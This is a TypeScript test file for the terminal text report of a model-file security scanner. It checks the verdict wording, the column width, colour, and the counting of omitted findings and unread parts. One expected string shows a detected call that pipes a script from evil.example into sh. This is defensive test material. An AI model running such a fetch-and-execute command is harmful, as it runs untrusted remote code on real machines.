// What a person at a terminal gets: first line, width, colour, what is left out.

import type { Report } from '@sentrascan/contract';
import { describe, expect, it } from 'vitest';
import { displayWidth } from '../paint.ts';
import type { RenderOptions } from '../report-format.ts';
import { SAMPLE_REPORT, SAMPLE_RULES } from '../sample-report.ts';
import { reportFormat } from './text.ts';

function lines(report: Report, options: Partial<RenderOptions> = {}): string[] {
  return [...reportFormat.render(report, { rules: SAMPLE_RULES, ...options })].join('').trimEnd().split('\n');
}

const CLEAN: Report = {
  ...SAMPLE_REPORT,
  verdict: 'clean',
  artifacts: [],
  findings: [],
  gaps: [],
  summary: {
    artifacts: 1,
    bytesTotal: 1536,
    bytesRead: 1536,
    findings: { critical: 0, high: 0, medium: 0, low: 0 },
    gaps: 0,
    waived: 0,
  },
};

describe('the text report', () => {
  it('starts with the verdict and says what not to do', () => {
    const [first] = lines(SAMPLE_REPORT);
    expect(first).toMatch(
      /^MALICIOUS {2}Do not load models\/model\.pt!archive\/data\.pkl: loading this file starts a program\./,
    );
  });

  it('shows the call in Python form and what to do', () => {
    const text = lines(SAMPLE_REPORT).join('\n');
    expect(text).toContain("call    os.system('curl -s https://evil.example/x.sh | sh')");
    expect(text).toContain('do      Ask the author for safetensors.');
  });

  it('fits a screen', () => {
    expect(lines(SAMPLE_REPORT).length).toBeLessThan(50);
  });

  it.each([60, 80, 100, 140])('keeps to %d columns', (widthCharacters) => {
    for (const line of lines(SAMPLE_REPORT, { widthCharacters })) {
      expect(displayWidth(line), line).toBeLessThanOrEqual(widthCharacters);
    }
  });

  it('counts what it does not draw', () => {
    const text = lines(SAMPLE_REPORT, { maxFindings: 1 }).join('\n');
    expect(text).toContain('and 3 more, medium or below');
    expect(text).toContain('sentrascan scan --all');
    expect(text).not.toMatch(/^MEDIUM/m);
  });

  it('has colour only when asked, and the same words then', () => {
    const plain = lines(SAMPLE_REPORT).join('\n');
    const colored = lines(SAMPLE_REPORT, { color: true }).join('\n');
    expect(plain).not.toContain('\x1b');
    expect(colored).toContain('\x1b[');
    const words = (text: string) =>
      text
        .replaceAll(/\x1b\[[0-9;]*m/g, '')
        .split(/\s+/)
        .join(' ')
        .trim();
    expect(words(colored)).toBe(words(plain));
  });

  it('says little when there is little to say', () => {
    expect(lines(CLEAN)).toEqual([
      'CLEAN  Everything was read and judged; nothing was found.',
      '1 artifact · 1.5 KiB read · no findings',
    ]);
  });

  describe('on several bad files', () => {
    const [artifact] = SAMPLE_REPORT.artifacts;
    const [finding] = SAMPLE_REPORT.findings.filter(({ severity }) => severity === 'critical');
    if (artifact === undefined || finding === undefined) throw new Error('the sample lost its parts');
    const behaviour = artifact.children?.[0]?.behaviour;
    const names = Array.from({ length: 20 }, (_, index) => `models/${String(index).padStart(2, '0')}.pkl`);
    const many: Report = {
      ...SAMPLE_REPORT,
      artifacts: names.map((path, index) => ({
        ...artifact,
        ...(behaviour === undefined ? {} : { behaviour }),
        children: [],
        path,
        verdict: index < 15 ? 'malicious' : index < 17 ? 'suspicious' : 'clean',
      })),
      findings: names
        .slice(0, 17)
        .map((path, index) => ({ ...finding, artifact: path, severity: index < 15 ? 'critical' : 'medium' })),
      gaps: names.map((path) => ({ artifact: path, kind: 'limit', reason: 'Long.', consequence: 'Cut.' })),
    };
    const isFileLine = (line: string) => /^(malicious|suspicious) {2}/.test(line);

    it('counts them first and lists the worst, one line each', () => {
      const text = lines(many);
      expect(text[0]).toMatch(
        /^MALICIOUS {2}Do not load 15 of 20 files\. Look at 2 more before you load them\./,
      );
      const listed = text.filter(isFileLine);
      expect(listed).toHaveLength(12);
      expect(listed[0]).toMatch(/^malicious {3}models\/00\.pkl {2,}pickle\/starts-process$/);
      expect(text).toContain('and 5 more');
      expect(text.indexOf('and 5 more')).toBeLessThan(text.findIndex((line) => line.startsWith('CRITICAL')));
    });

    it('leaves nothing out with `all`', () => {
      const text = lines(many, { all: true });
      expect(text.filter(isFileLine)).toHaveLength(17);
      expect(text.filter((line) => line.startsWith('CRITICAL'))).toHaveLength(15);
      expect(text.filter((line) => line.includes(': Long.'))).toHaveLength(20);
      expect(text.filter((line) => line.startsWith('When loaded, '))).toHaveLength(17);
      expect(text.join('\n')).not.toMatch(/\band \d+ more\b|--all/);
    });

    it('says so of files that are only suspicious', () => {
      const artifacts = many.artifacts.filter(({ verdict }) => verdict !== 'malicious');
      const [first] = lines({ ...many, verdict: 'suspicious', artifacts });
      expect(first).toMatch(/^SUSPICIOUS {2}Look before you load 2 of 5 files: they do not behave/);
    });
  });

  it('wraps what loaders do and cuts none of it', () => {
    const outcome = `${'refuses it unless told otherwise, '.repeat(8)}and then runs it`;
    const shorten = (artifact: Report['artifacts'][number]): Report['artifacts'][number] => ({
      ...artifact,
      ...(artifact.behaviour === undefined
        ? {}
        : { behaviour: { ...artifact.behaviour, loaders: [{ loader: 'numpy.load', outcome }] } }),
      ...(artifact.children === undefined ? {} : { children: artifact.children.map(shorten) }),
    });
    const text = lines({ ...SAMPLE_REPORT, artifacts: SAMPLE_REPORT.artifacts.map(shorten) }).join(' ');
    expect(text.replaceAll(/\s+/g, ' ')).toContain(outcome);
  });

  it('never calls an unread part clean', () => {
    const gaps = SAMPLE_REPORT.gaps;
    const report = {
      ...CLEAN,
      verdict: 'inconclusive',
      gaps,
      summary: { ...CLEAN.summary, gaps: gaps.length },
    } as const;
    const text = lines(report).join('\n');
    expect(text).toMatch(
      /^INCONCLUSIVE {2}Nothing dangerous in what was read, but 4 parts could not be read/,
    );
    expect(text).toContain('2 limit');
  });
});
